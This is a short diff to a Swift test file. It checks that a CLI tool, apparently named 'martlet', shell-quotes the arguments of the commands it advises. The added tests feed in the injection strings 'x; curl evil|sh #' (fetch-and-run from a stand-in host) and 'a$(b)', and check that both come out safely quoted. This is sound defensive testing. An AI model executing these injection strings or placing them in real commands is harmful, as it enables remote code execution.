@@ -9,7 +9,11 @@ struct AdviceTests {
     @Test("a command is written as a shell takes it")
     func commands() {
         #expect(AdvisedCommand.retry(batch).text == "martlet retry b7")
-        #expect(AdvisedCommand.set(batch, "--header", "'K: V'").text == "martlet set b7 --header 'K: V'")
+        #expect(AdvisedCommand.set(batch, "--header", "K: V").text == "martlet set b7 --header 'K: V'")
+        #expect(
+            AdvisedCommand("session set", [], ["x; curl evil|sh #", "--limit", "off"]).text
+                == "martlet session set 'x; curl evil|sh #' --limit off")
+        #expect(AdvisedCommand.limit("off", "--host", "a$(b)").text == "martlet limit off --host 'a$(b)'")
         #expect(AdvisedCommand("engine start").text == "martlet engine start")
         #expect(AdvisedCommand.limit("off", "--host", "nas").text == "martlet limit off --host nas")
     }
